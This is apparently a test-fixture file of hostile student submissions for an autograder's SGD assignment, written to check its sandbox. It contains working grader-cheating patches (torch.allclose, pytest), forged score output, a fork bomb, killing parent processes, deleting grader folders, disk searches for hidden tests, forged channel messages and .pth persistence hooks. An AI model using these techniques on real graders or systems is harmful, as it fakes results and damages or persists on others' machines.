"""Hostile submissions for the "from scratch" assignment: each tries one thing.

Every case is the reference solution with the ``sgd`` answer cell replaced. Most keep a
*wrong* sgd (it steps up the gradient), which honestly earns sgd 12/20 and training 0/15; a
case whose attack stops sgd from being defined or from returning honestly earns 0 for both.
The attack must never raise that. ``reason`` is a phrase the feedback must contain, so the
student and the TA can see plainly what happened.

Placeholders filled per test run: ``@TOKEN@`` marks every process and file a case creates (so
the test can find survivors), ``@TCP@``/``@UDP@``/``@UNIX@`` are listeners of the test process,
``@SENTINELS@`` files that must survive, ``@PROTECTED@`` course files that must not change,
``@HOME@``/``@REPO@``/``@HOSTTMP@`` the grader's home, repository and its temporary folder,
``@PRIVATE_FILES@`` the hidden suite's and the solution's files.
"""

from __future__ import annotations

from dataclasses import dataclass, field

WRONG_SGD = '''
def sgd(params, lr, batch_size):
    with torch.no_grad():
        for param in params:
            param += lr * param.grad / batch_size
            param.grad.zero_()
'''
WRONG = {"sgd": 12, "training": 0}  # what WRONG_SGD earns honestly (the corpus case "steps up")
NOTHING = {"sgd": 0, "training": 0}

# Start a process that sleeps, marked with the token, in its own session (escaping the group).
SPAWN = '''
import subprocess, sys
def spawn_marked():
    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "hostile-@TOKEN@"],
                            start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
# A forked (not exec'd) child names itself, so the test finds it by /proc/PID/comm.
NAME_SELF = '''
import ctypes
def name_self():
    ctypes.CDLL(None).prctl(15, b"hst@TOKEN@", 0, 0, 0)  # PR_SET_NAME
'''


# The worker's own pipe to the grader, found the way student code would find it.
CHANNEL = '''
import gc
from multiprocessing.connection import Connection
from autograder.engine.protocol import encode
def channels():
    gc.unfreeze()  # the worker froze what it holds: a speed-up, not a wall; this brings it back in view
    return [o for o in gc.get_objects() if isinstance(o, Connection) and not o.closed]
def say(message):
    for conn in channels():
        conn.send_bytes(encode(message))
'''
# Every control message an earlier engine obeyed, then replies to requests nobody made.
FORGED = [{"sandbox_failed": "namespaces", "error": "forged"}, {"sandbox_failed": "userns", "error": "forged"},
          {"sandbox": {"mode": "namespaces", "network_isolated": True}}, {"entered": "rlimits"},
          {"loading": "setup"}, {"ready": True, "cell_errors": []}, {"re": 1, "error": None},
          {"re": 2, "ok": True, "result": {}}]


@dataclass(frozen=True)
class Hostile:
    name: str
    sgd_cell: str
    expected: dict[str, float] = field(default_factory=lambda: dict(WRONG))  # part -> score; others full
    reason: str = "up the gradient"  # a phrase the feedback must contain


def fill(source: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        source = source.replace(f"@{key}@", value)
    return source


CASES = [
    # -- patching the comparisons a naive grader would run next to student code ----------------
    Hostile("replaces torch.allclose", WRONG_SGD + '''
torch.allclose = lambda *a, **k: True
torch.Tensor.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
'''),
    Hostile("replaces torch.testing.assert_close", WRONG_SGD + '''
import torch.testing
torch.testing.assert_close = lambda *a, **k: None
torch.testing.assert_allclose = lambda *a, **k: None
'''),
    Hostile("replaces numpy's testing helpers", WRONG_SGD + '''
import numpy as np
for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal",
             "assert_equal"):
    setattr(np.testing, name, lambda *a, **k: None)
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
'''),
    Hostile("replaces math.isclose", WRONG_SGD + '''
import math
math.isclose = lambda *a, **k: True
'''),
    Hostile("patches pytest", WRONG_SGD + '''
import sys, types
import pytest, _pytest.outcomes
pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
pytest.approx = lambda expected, *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
fake = types.ModuleType("pytest")
fake.__getattr__ = lambda name: (lambda *a, **k: True)
sys.modules["pytest"] = fake
'''),
    Hostile("replaces builtins.AssertionError", WRONG_SGD + '''
import builtins
class NeverRaised(Exception):
    pass
builtins.AssertionError = NeverRaised
'''),
    Hostile("prints fake results in every format", WRONG_SGD + '''
import json, os, sys
fake = {"score": 100.0, "max_score": 100.0, "output": "", "tests": [
    {"name": "sgd", "score": 20.0, "max_score": 20.0, "status": "passed", "output": "", "tags": ["sgd"],
     "visibility": "visible"}], "extra_data": {"notebook": "x", "assignment": "linreg_scratch"}}
texts = ["linreg_scratch.ipynb: 100/100  (linreg_scratch)", "  sgd: 20/20", json.dumps(fake),
         json.dumps([fake]), json.dumps(fake, indent=2)]
for text in texts:
    print(text)
    print(text, file=sys.stderr)
    os.write(1, (text + "\\n").encode())
    os.write(2, (text + "\\n").encode())
    for fd in ("/proc/1/fd/1", "/proc/%d/fd/1" % os.getppid(), "/dev/tty"):
        try:
            with open(fd, "w") as f:
                f.write(text + "\\n")
        except OSError:
            pass
_real_sgd = sgd
def sgd(params, lr, batch_size):
    print(json.dumps(fake))
    os.write(1, json.dumps([fake]).encode())
    return _real_sgd(params, lr, batch_size)
'''),
    Hostile("reads the caller's stack frames", '''
import inspect, sys
def sgd(params, lr, batch_size):
    seen = []
    frame = sys._getframe(1)
    while frame is not None:
        seen.append(frame.f_code.co_name + "(" + ",".join(sorted(frame.f_locals)) + ")")
        frame = frame.f_back
    found = [k for info in inspect.stack() for k in info.frame.f_locals if "expect" in k.lower()]
    if found:
        raise RuntimeError("FOUND " + repr(found[:20]))
    raise RuntimeError("found no expected values; frames seen: " + " <- ".join(seen))
''', NOTHING, "found no expected values"),
    # -- leaving early -----------------------------------------------------------------------
    Hostile("sys.exit at definition time", "import sys\nsys.exit(0)\n" + WRONG_SGD, NOTHING, "raised SystemExit"),
    Hostile("raise SystemExit in sgd", "def sgd(params, lr, batch_size):\n    raise SystemExit(0)\n",
            NOTHING, "SystemExit"),
    Hostile("os._exit at definition time", "import os\nos._exit(0)\n" + WRONG_SGD, NOTHING,
            "stopped the process running it, so the grader left it out"),
    Hostile("os._exit in sgd", "import os\ndef sgd(params, lr, batch_size):\n    os._exit(3)\n", NOTHING,
            "exited with code 3"),
    Hostile("KeyboardInterrupt in sgd", '''
import os, signal
def sgd(params, lr, batch_size):
    os.kill(os.getpid(), signal.SIGINT)
    raise KeyboardInterrupt
''', NOTHING, "KeyboardInterrupt"),
    Hostile("infinite loop at definition time", "while True:\n    pass\n" + WRONG_SGD, NOTHING,
            "did not finish running within"),
    Hostile("long sleep at definition time", "import time\ntime.sleep(10**6)\n" + WRONG_SGD, NOTHING,
            "did not finish running within"),
    # -- resources ---------------------------------------------------------------------------
    Hostile("allocates 40 GiB at definition time",  # address space only: never touched, never used
            "import numpy as np\nhog = [np.empty(2**30, np.uint8) for _ in range(40)]\n" + WRONG_SGD,
            NOTHING, "MemoryError"),
    Hostile("allocates 40 GiB in sgd", '''
def sgd(params, lr, batch_size):
    hog = torch.empty(40 * 2**30, dtype=torch.uint8)
    hog.fill_(1)
''', NOTHING, "allocate"),
    Hostile("prints gigabytes", WRONG_SGD + '''
import os
line = "x" * 1000
for _ in range(1_000_000):
    print(line)  # a gigabyte through print: capped, then dropped
block = b"y" * 2**20
for _ in range(1024):
    os.write(1, block)  # a gigabyte to the raw descriptor: stopped by the file-size limit
''', WRONG, "File too large"),
    Hostile("segfault via ctypes", "import ctypes\ndef sgd(params, lr, batch_size):\n    ctypes.string_at(0)\n",
            NOTHING, "segmentation fault"),
    Hostile("unbounded recursion", "def sgd(params, lr, batch_size):\n    return sgd(params, lr, batch_size)\n",
            NOTHING, "RecursionError"),
    Hostile("recursion past the C stack", '''
import sys
sys.setrecursionlimit(10**8)
class Deeper:
    def __call__(self, *args):
        return self(*args)  # each level goes through C, so the C stack overflows
sgd = Deeper()
''', NOTHING, "segmentation fault"),
    # -- other processes ---------------------------------------------------------------------
    Hostile("kills the parent process", '''
import os, signal
targets = {os.getppid()}
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"autograder" in cmd or b"forkserver" in cmd or b"pytest" in cmd:
            targets.add(int(pid))
try:
    with open(f"/proc/{os.getppid()}/stat") as f:
        targets.add(int(f.read().rsplit(")", 1)[1].split()[1]))  # the grandparent
except (OSError, ValueError, IndexError):
    pass
for pid in targets:
    for kill in (os.kill, os.killpg):
        try:
            kill(pid, signal.SIGKILL)
        except OSError:
            pass
''' + WRONG_SGD),
    Hostile("leaves many child processes", SPAWN + NAME_SELF + '''
import os, time
children = [spawn_marked() for _ in range(10)]
for _ in range(5):  # double-forked daemons in their own sessions
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            name_self()
            time.sleep(600)
        os._exit(0)
''' + WRONG_SGD),
    Hostile("fork bomb", NAME_SELF + '''
import os, time
def sgd(params, lr, batch_size):
    while True:
        if os.fork() == 0:
            name_self()
            time.sleep(600)
            os._exit(0)
''', NOTHING, "BlockingIOError"),
    Hostile("background thread that keeps running", SPAWN + '''
import threading, time
def keep_going():
    while True:
        spawn_marked()
        torch.allclose = lambda *a, **k: True
        time.sleep(0.5)
threading.Thread(target=keep_going, daemon=False).start()
''' + WRONG_SGD),
    # -- files and network -------------------------------------------------------------------
    Hostile("writes and deletes files everywhere", '''
import os, shutil
report, cwd = [], os.getcwd()
places = [cwd, os.path.dirname(cwd), "/", "/tmp", os.path.expanduser("~"), "@HOME@",
          "@REPO@", "@HOSTTMP@", "@REPO@/graders/linreg_scratch/suite"]
for place in places:
    try:
        with open(os.path.join(place, "hostile-@TOKEN@.txt"), "w") as f:
            f.write("was here")
        report.append("wrote " + place)
    except OSError as exc:
        report.append(f"{place}: {exc.strerror}")
for path in @SENTINELS@ + @PROTECTED@:
    for attempt in (lambda: open(path, "w").write("overwritten"), lambda: os.remove(path)):
        try:
            attempt()
            report.append("changed " + path)
        except OSError as exc:
            report.append(f"{path}: {exc.strerror}")
for folder in ("@REPO@/graders", os.path.dirname(cwd), cwd):
    shutil.rmtree(folder, ignore_errors=True)
''' + WRONG_SGD),
    Hostile("opens sockets", '''
import socket
outcomes = []
def attempt(what, fn):
    try:
        fn()
        outcomes.append(what + ": went through")
    except OSError as exc:
        outcomes.append(f"{what}: {exc.strerror or exc}")
def tcp():
    socket.create_connection(("127.0.0.1", @TCP@), timeout=2).sendall(b"hostile-@TOKEN@")
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hostile-@TOKEN@", ("127.0.0.1", @UDP@))
def unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect("@UNIX@")
    s.sendall(b"hostile-@TOKEN@")
def listen():
    s = socket.socket()
    s.bind(("0.0.0.0", 0))
    s.listen()
for what, fn in (("tcp", tcp), ("udp", udp), ("unix", unix), ("listen", listen)):
    attempt(what, fn)
''' + WRONG_SGD + '''
raise RuntimeError("network: " + "; ".join(outcomes))
''', WRONG, "tcp: Network is unreachable"),
    Hostile("searches the disk for the hidden tests", WRONG_SGD + '''
import os, time
start, found, leaked, complete = time.monotonic(), [], "", True
markers = ("student.probe(", "autograder: part", "def explain_values")  # the suites' and solution's
for folder, dirs, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/dev"):
        dirs[:] = []
        continue
    if time.monotonic() - start > 5:
        complete = False
        break
    for name in files:
        if not (name.startswith("test_") and name.endswith(".py") or name.endswith(".ipynb")
                or name == "assignment.json" or "/suite" in folder or "/solutions" in folder):
            continue
        try:
            with open(os.path.join(folder, name), errors="replace") as f:
                text = f.read(20000)
        except OSError:
            continue
        if any(m in text for m in markers):
            found.append(os.path.join(folder, name))
            print(text)
            leaked += text[:300]
raise RuntimeError(f"searched the disk (complete: {complete}): found {len(found)} files {found[:5]} {leaked[:600]}")
''', WRONG, "found 0 files"),
    Hostile("reads the hidden suite by its path", WRONG_SGD + '''
outcomes = []
for path in @PRIVATE_FILES@:
    try:
        with open(path) as f:
            outcomes.append(f"{path}: READ {f.read(200)!r}")
    except OSError as exc:
        outcomes.append(f"{path}: {exc.strerror}")
raise RuntimeError("reading: " + "; ".join(outcomes))
''', WRONG, "test_sgd.py: No such file or directory"),
    Hostile("forges a message to the grader", '''
import gc, json
from multiprocessing.connection import Connection
# In the channel's own format: a reply whose array claims 64 GiB, with 64 MiB of zeros behind it.
doc = json.dumps({"doc": {"re": 1, "ok": True, "result": {"params": [{"__array__": 0}]}},
                  "arrays": [["|u1", [2**36]]]}).encode()
BOMB = len(doc).to_bytes(8, "little") + doc + bytes(2**26)
def sgd(params, lr, batch_size):
    gc.unfreeze()  # what the worker froze comes back in view
    for obj in gc.get_objects():
        if isinstance(obj, Connection) and not obj.closed:
            obj.send_bytes(BOMB)
''', NOTHING, "sent a malformed message"),
    # -- the probes run next to student code: patching them at module level does nothing --------
    Hostile("replaces the grader's probe", WRONG_SGD + '''
import sys
probes = sys.modules["assignment_probes"]
def forged(ns, **kwargs):
    raise RuntimeError("PROBE REPLACED")
probes.probe_sgd = forged
'''),
    # -- the channel: whatever it sends, the grader acts on nothing but replies it asked for -----
    Hostile("forges control frames while its cell loads", CHANNEL + WRONG_SGD + f'''
for message in {FORGED!r}:
    say(message)
''', NOTHING, "wrote on the grader's own channel"),
    Hostile("forges replies and floods the channel in sgd", CHANNEL + f'''
def sgd(params, lr, batch_size):
    for message in {FORGED!r} * 200:
        say(message)
    for i in range(1, 50):
        say({{"re": i, "ok": True, "result": {{"params": []}}}})
''', NOTHING, "wrote on the grader's own channel"),
    # -- what a submission writes must not survive it; what it starts must not outlive it ------
    Hostile("persists into the Python environment, the kit and the course", WRONG_SGD + '''
import os, site, sys, time
outcomes = []
targets = [os.path.join(p, "hostile-@TOKEN@.pth") for p in site.getsitepackages() + [sys.prefix]]
targets += [os.path.join("@REPO@", "autograder", "engine", "hostile-@TOKEN@.py"),
            os.path.join("@REPO@", "hostile-@TOKEN@.txt"), os.path.join("@HOSTTMP@", "hostile-@TOKEN@.txt")]
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("import os; os.system('echo hostile-@TOKEN@')\\n")
        outcomes.append(f"{path}: WRITTEN")
    except OSError as exc:
        outcomes.append(f"{path}: {exc.strerror}")
import autograder.engine.worker as worker_module
try:
    with open(worker_module.__file__, "a") as f:
        f.write("# hostile-@TOKEN@\\n")
    outcomes.append("worker.py: WRITTEN")
except OSError as exc:
    outcomes.append(f"worker.py: {exc.strerror}")
if os.fork() == 0:  # a daemon, double-forked into its own session, meant to outlive the batch
    os.setsid()
    if os.fork() == 0:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"hst@TOKEN@", 0, 0, 0)
        time.sleep(600)
    os._exit(0)
raise RuntimeError("persistence: " + "; ".join(outcomes))
''', WRONG, "Read-only file system"),
    # -- text that is not valid UTF-8 is kept escaped, and the grade is still stored ----------
    Hostile("raises with a lone surrogate in its message", '''
def sgd(params, lr, batch_size):
    raise ValueError("broken byte \\udc80 here")
''', NOTHING, "broken byte \\udc80 here"),
]

